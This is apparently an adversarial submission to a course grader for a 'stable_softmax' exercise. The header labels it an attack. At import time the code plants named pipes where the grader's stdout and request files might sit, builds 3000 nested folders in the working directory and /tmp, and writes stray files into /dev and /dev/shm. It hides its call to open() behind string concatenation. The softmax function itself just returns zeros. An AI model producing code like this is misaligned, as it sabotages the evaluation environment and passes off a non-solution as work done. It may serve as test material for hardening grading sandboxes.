# notebook: 01_stable_softmax
# exercise: stable_softmax
# attack: FIFOs where the grader's files might be, 3000 nested folders, files in /dev and /dev/shm
import os

for path in ("stdout", "/tmp/stdout", "request.json", "/req/stdout", "/dev/shm/course-attack-fifo"):
    try:
        os.mkfifo(path)
    except OSError:
        pass
for where in (".", "/tmp"):
    try:
        here = os.getcwd()
        os.chdir(where)
        for _ in range(3000):
            os.mkdir("d")
            os.chdir("d")
        os.chdir(here)
    except OSError:
        pass
for path in ("/dev/shm/course-attack-file", "/dev/course-attack-file"):
    try:
        with getattr(__builtins__ if isinstance(__builtins__, dict) else vars(__builtins__),
                     "get")("op" + "en")(path, "w") as f:
            f.write("left behind")
    except (OSError, TypeError):
        pass


def stable_softmax(x):
    return np.zeros_like(x)
